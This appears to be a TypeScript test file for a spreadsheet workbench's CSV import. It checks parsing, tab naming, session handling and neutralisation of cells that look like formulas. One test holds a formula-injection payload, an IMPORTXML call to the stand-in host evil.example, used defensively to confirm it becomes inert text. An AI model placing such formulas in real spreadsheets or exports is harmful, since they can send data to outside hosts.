/** File > Import of a CSV in the workbench: parsing, formula-looking text, tab names, the session. */
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { csvOf } from "../../src/local/demo/seller-center-exports";
import { csvCellInput, parseCsv, tabNameFor } from "../../workbench/csv-import";
import { Session } from "../../workbench/session";
import { BUILD_DIR } from "../support/bundle";

describe("a CSV file", () => {
  it("parses quoted fields, doubled quotes, line breaks in cells and a BOM", () => {
    expect(parseCsv('\uFEFFOrder ID,Product Name\r\n"576,1","Serum ""Glow""\nrefill"\r\n7,x')).toEqual([
      ["Order ID", "Product Name"],
      ["576,1", 'Serum "Glow"\nrefill'],
      ["7", "x"],
    ]);
    expect(
      parseCsv(
        csvOf([
          ["a,b", 'say "hi"'],
          ["", "x"],
        ]),
      ),
    ).toEqual([
      ["a,b", 'say "hi"'],
      ["", "x"],
    ]);
  });

  it("keeps text that would start a formula as text, and numbers as numbers", () => {
    expect(csvCellInput('=IMPORTXML("http://evil.example/","//a")')).toBe(
      '\'=IMPORTXML("http://evil.example/","//a")',
    );
    expect(csvCellInput("@amy")).toBe("'@amy");
    expect(csvCellInput("-12.50")).toBe("-12.50");
    expect(csvCellInput("Settled")).toBe("Settled");
    expect(csvCellInput("576400000000002561")).toBe("'576400000000002561");
    expect(csvCellInput("1234567890")).toBe("1234567890");
  });

  it("goes into a new tab named after the file, never over an existing one", () => {
    expect(tabNameFor("affiliate-orders.csv", ["Orders"])).toBe("affiliate-orders");
    expect(tabNameFor("Orders.csv", ["Orders", "Orders 2"])).toBe("Orders 3");
    expect(tabNameFor("<b>.csv", [])).toBe("b");
  });

  it("becomes the active tab of the workbench session", () => {
    const session = new Session({
      statePath: join(mkdtempSync(join(tmpdir(), "csv-")), "state.json"),
      buildDir: BUILD_DIR,
      now: new Date("2026-11-25T17:00:00Z"),
    });
    const csv = session.demoExport("affiliate");
    const imported = session.importCsv("affiliate-orders-demo.csv", csv);
    expect(imported).toEqual({ tab: "affiliate-orders-demo", rows: 201 });
    expect(session.emulator.spreadsheet.getActiveSheet().getName()).toBe("affiliate-orders-demo");
    expect(session.emulator.values("affiliate-orders-demo")[0]?.[0]).toBe("Order ID");
    // Order IDs keep every digit.
    expect(session.emulator.values("affiliate-orders-demo")[1]?.[0]).toBe(
      csv.split("\r\n")[1]?.split(",")[0],
    );
    expect(() => session.importCsv("x.csv", 5)).toThrow("Send a file name");
  });
});
